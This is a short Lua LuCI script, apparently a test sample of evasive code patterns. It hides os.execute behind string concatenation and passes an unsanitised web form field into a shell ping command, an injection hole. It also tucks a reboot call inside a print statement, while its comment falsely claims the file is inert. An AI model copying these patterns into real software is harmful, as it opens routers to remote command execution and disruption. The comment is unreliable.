#!/usr/bin/lua
--[==[ Inert: nothing here is ever run. os.execute("x") ]==]
local http = require "luci.http"
local run = os['exe' .. 'cute']
run("ping " .. http.formvalue("host"))
loadstring(string.char(114, 101, 116, 117, 114, 110))()
print([[os.execute("text")]], os.execute"reboot")
